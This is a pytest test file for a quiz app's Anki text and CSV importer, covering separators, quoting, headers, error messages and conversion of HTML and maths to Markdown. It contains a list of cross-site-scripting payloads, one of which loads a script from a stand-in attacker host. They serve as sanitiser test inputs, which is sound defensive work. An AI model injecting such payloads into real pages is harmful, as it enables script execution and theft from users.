"""Anki plain-text exports and CSV files: headers, separators, quoting, HTML and maths, errors.

The good files in ``tests/data/decks/good/`` (other than Markdown) parse into their expected JSON;
each bad ``anki-*`` file fails with the line and words listed here.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from quiz.decks.anki_html import html_to_markdown, markdown_to_anki_html, plain_to_markdown
from quiz.decks.anki_text import check_anki_text, parse_anki_text
from quiz.decks.model import DeckProblem

from .test_markdown_deck import BAD_DIR, BAD_MARKDOWN, GOOD_DIR, Bad, assert_bad_file
from .test_markdown_deck import assert_good_file as assert_good_file

BAD_ANKI = [
    Bad("anki-unclosed-quote.txt", 4, ("quoted field opened here is never closed",)),
    Bad("anki-unknown-separator.txt", 1, ("unknown separator 'semi-colon'", "expected tab")),
    Bad("anki-unknown-header.txt", 2, ("unknown header '#colums:'", "#columns:")),
    Bad("anki-empty-back.csv", 3, ("the back (column 2) is empty",)),
    Bad("anki-bad-html-header.txt", 2, ("#html: expects true or false", "'yes'")),
    Bad("anki-duplicate-guid.txt", 6, ("GUID 'AbC' is already used on line 4",)),
    Bad("anki-text-after-quote.csv", 3, ("expected the separator or the end of the line",)),
    Bad("anki-tags-column-out-of-range.txt", 2, ("#tags column: 5 is past the last column",)),
    Bad("anki-one-column.csv", 2, ("expected a front and a back column",)),
    Bad("anki-utf-16.csv", 1, ("expected UTF-8", "UTF-16")),
]
BAD_PACKAGES = [Bad("not-a-zip.apkg", 0, ("expected an Anki package (a zip archive)",))]

XSS_PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "<script>unclosed alert(1)",
    "<style>*{x:expression(alert(1))}</style>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "\\(<script>alert(1)</script>\\)",
    "\\(&lt;script&gt;\\)",
    '<img src="x" onerror="alert(1)"/>',
    "<details open ontoggle=alert(1)>",
]


@pytest.mark.parametrize(
    "path",
    sorted(path for path in GOOD_DIR.iterdir() if path.suffix in (".txt", ".csv")),
    ids=lambda path: path.name,
)
def test_good_anki_files(path: Path) -> None:
    assert_good_file(path)


@pytest.mark.parametrize("bad", BAD_ANKI + BAD_PACKAGES, ids=lambda bad: bad.file)
def test_bad_anki_files(bad: Bad) -> None:
    assert_bad_file(bad)


def test_every_bad_file_has_an_expectation() -> None:
    listed = {bad.file for bad in BAD_MARKDOWN + BAD_ANKI + BAD_PACKAGES}
    assert {path.name for path in BAD_DIR.iterdir()} == listed


def test_check_lists_every_problem() -> None:
    text = '#separator:tab\n#bogus:1\na\t\n\tb\nc\td\n"e\tf\n'
    assert [problem.line for problem in check_anki_text(text)] == [2, 3, 4, 6]


# -- separators, quoting, headers --------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "separator"),
    [
        ("#separator:tab", "\t"),
        ("#separator:Tab", "\t"),
        ("#separator:\t", "\t"),
        ("#separator:semicolon", ";"),
        ("#separator:;", ";"),
        ("#separator:Comma", ","),
        ("#separator:pipe", "|"),
        ("#separator:colon", ":"),
        ("#separator:space", " "),
        ("#separator: ", " "),
        ("#separator:~", "~"),
    ],
)
def test_named_and_literal_separators(header: str, separator: str) -> None:
    text = f"{header}\nfront{separator}back\n"
    (card,) = parse_anki_text(text).cards
    assert (card.front, card.back, card.line) == ("front", "back", 2)


@pytest.mark.parametrize(
    ("text", "cards"),
    [
        ("a\tb;c,d\n", [("a", "b;c,d")]),
        ("a;b,c\n", [("a", "b,c")]),
        ("a,b\n", [("a", "b")]),
        ("a|b\n", [("a", "b")]),
        ('"a,1",b\n"c ""2""",d\n', [("a,1", "b"), ('c "2"', "d")]),
        ('a; "b;c"\n', [("a", "b;c")]),
    ],
)
def test_separator_is_guessed_from_the_first_record(
    text: str, cards: list[tuple[str, str]]
) -> None:
    assert [(card.front, card.back) for card in parse_anki_text(text).cards] == cards


def test_quoted_fields_span_lines_and_lines_are_counted() -> None:
    text = 'q1;"line 1\nline 2\n\nline 4"\n# a comment\n\nq2;a2\r\nq3;"x"\n'
    deck = parse_anki_text(text)
    assert [(card.front, card.back, card.line) for card in deck.cards] == [
        ("q1", "line 1\nline 2\n\nline 4", 1),
        ("q2", "a2", 7),
        ("q3", "x", 8),
    ]


def test_headers_choose_columns_tags_guid_and_title() -> None:
    text = (
        "#separator:tab\n#html:false\n#tags:all\n#deck:Fallback\n"
        "#columns:Tags\tBack\tNotes\tFront\tGUID\n"
        "t1 t2\tthe back\tignored\tthe front\tg-1\n"
    )
    (card,) = parse_anki_text(text, title="file").cards
    assert (card.front, card.back, card.key, card.tags) == (
        "the front",
        "the back",
        "g-1",
        ("all", "t1", "t2"),
    )
    assert parse_anki_text(text).title == "Fallback"
    assert parse_anki_text("a\tb\n", title="file").title == "file"
    assert parse_anki_text("a\tb\n").title == "Imported deck"


def test_short_records_get_empty_fields_and_long_ones_are_cut() -> None:
    text = "#separator:comma\n#columns:Front,Back,Tags\na,b\nc,d,t,extra,more\n"
    cards = parse_anki_text(text).cards
    assert [(card.front, card.back, card.tags) for card in cards] == [
        ("a", "b", ()),
        ("c", "d", ("t",)),
    ]


def test_empty_files_and_header_only_files() -> None:
    for text, line in (("", 1), ("\n\n", 1), ("#separator:tab\n#html:true\n", 2)):
        assert check_anki_text(text) == [
            DeckProblem(
                line,
                "expected at least one note: a line with the front and the back, "
                "separated by a tab, ';' or ','",
            )
        ]


# -- HTML and maths ----------------------------------------------------------------------------


def test_html_is_detected_when_there_is_no_header() -> None:
    (card,) = parse_anki_text("a<br>b\t<b>c</b> &amp; d\n").cards
    assert (card.front, card.back) == ("a\nb", "**c** & d")
    (plain,) = parse_anki_text("#html:false\na<br>b\tc\n").cards
    assert plain.front == "a<br>b"  # plain text stays as written (shown as text, not HTML)


@pytest.mark.parametrize(
    ("html", "markdown"),
    [
        ("What is \\(n - k + 1\\)?", "What is $n - k + 1$?"),
        ("\\[\\frac{a}{b}\\]", "\\[\\frac{a}{b}\\]"),
        ("[$]x^2[/$] and [$$]y[/$$]", "$x^2$ and \\[y\\]"),
        ("[latex]\\sum_i x_i[/latex]", "\\[\\sum_i x_i\\]"),
        ("\\(a &lt; b<br>&amp; c\\)", "$a \\lt b & c$"),
        ("\\(\\)", ""),
        (
            "<b>bold</b>, <strong>strong</strong>, <i>it</i>, <em>em</em>",
            "**bold**, **strong**, *it*, *em*",
        ),
        ("<b> spaced </b>word", "**spaced** word"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>", "- a\n- b\n  - c"),
        ("<ol><li>a</li><li>b</li></ol>", "1. a\n2. b"),
        ("x<img src='pics/conv.png'>y", "x[image: conv.png]y"),
        ("<blockquote><b>Erratum:</b> fixed</blockquote>", "> **Erratum:** fixed"),
        ("<h2>Title</h2>text", "**Title**\n\ntext"),
        (
            "a&nbsp;b &lt;tag&gt; 5 * 3_x `c` ~d~ $5",
            "a b &lt;tag&gt; 5 \\* 3\\_x \\`c\\` \\~d\\~ \\$5",
        ),
        ("# not a heading", "\\# not a heading"),
        ("[a](javascript:alert(1))", "[a]\\(javascript:alert(1))"),
        ("<span style='color:red'>red</span> <font color=blue>blue</font>", "red blue"),
    ],
)
def test_html_to_markdown(html: str, markdown: str) -> None:
    assert html_to_markdown(html) == markdown


@pytest.mark.parametrize(
    ("html", "markdown"),
    [
        # not a declaration: text (the parser used to crash on it); "![" is never image syntax
        ("<![ x", "&lt;\\![ x"),
        ("a<![<![b", "a&lt;\\![&lt;\\![b"),
        ("1 < 2 and a<b <b>bold</b>", "1 &lt; 2 and a&lt;b **bold**"),
        ("a<!-- <b>x</b> -->b<!-->c", "abc"),  # comments are removed, with any tags inside
        ("<!DOCTYPE html><?xml x?>x</>y</ z>", "xy"),  # declarations and bogus end tags too
        ("<a href='x'>unclosed <b", "unclosed &lt;b"),
        ('<span title="a<3">t</span>', "t"),
        ("<svg/onload=alert(1)>x", ""),  # an svg is removed with its content
    ],
)
def test_markup_that_is_not_whole_is_text(html: str, markdown: str) -> None:
    """A ``<`` that opens no whole tag, comment or declaration is text (so every field converts,
    in linear time: ``tests/unit/fuzz/test_fuzz_deck_text.py`` times the hostile ones)."""
    assert html_to_markdown(html) == markdown


def test_cloze_notes_become_one_card() -> None:
    text = "#separator:tab\n#html:false\nA {{c1::stride::step}} of {{c2::2}} halves it.\tRoughly.\n"
    (card,) = parse_anki_text(text).cards
    assert card.front == "A [step] of [...] halves it."
    assert card.back == "A **stride** of **2** halves it.\n\nRoughly."
    (html,) = parse_anki_text("#html:true\n{{c1::<i>x</i>}} is \\(y\\)\t\n").cards
    assert (html.front, html.back) == ("[...] is $y$", "***x*** is $y$")


def test_plain_fields_only_convert_maths() -> None:
    assert plain_to_markdown(" a *b* \\(x<y\\) [$]z[/$] ") == "a *b* $x\\lt y$ $z$"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_html_fields_never_yield_html(payload: str) -> None:
    """Scripts and event handlers are removed; whatever text is left has no ``<`` at all."""
    for field in (payload, f"before {payload} after", f"<div>{payload}</div><br>"):
        markdown = html_to_markdown(field)
        assert "<" not in markdown
        assert "onerror" not in markdown and "onload" not in markdown
        text = f"#separator:tab\n#html:true\nfront {field}\tback {field}\n"
        (card,) = parse_anki_text(text).cards
        assert "<script" not in card.front + card.back


def test_markdown_to_anki_html_for_export() -> None:
    assert markdown_to_anki_html("What is $x<1$?") == "What is \\(x&lt;1\\)?"
    assert markdown_to_anki_html("$$\na\n$$") == "\\[a\\]"
    assert (
        markdown_to_anki_html("<script>x</script> & \\*")
        == "&lt;script&gt;x&lt;/script&gt; &amp; *"
    )
    assert markdown_to_anki_html("# Head\n- a\n- b\n\n1. c") == (
        "<b>Head</b><ul><li>a</li><li>b</li></ul><br><ol><li>c</li></ol>"
    )


@pytest.mark.parametrize(
    "markdown",
    [
        "What is $x$?",
        "**bold** and *italic* text",
        "one\ntwo\n\nthree",
        "Intro:\n\n- a $y$\n- b",
        "\\[\\sum_i x_i\\]\n\nafter",
        "> **Erratum:** the old answer was wrong.",
    ],
)
def test_markdown_survives_anki_html_and_back(markdown: str) -> None:
    assert html_to_markdown(markdown_to_anki_html(markdown)) == markdown
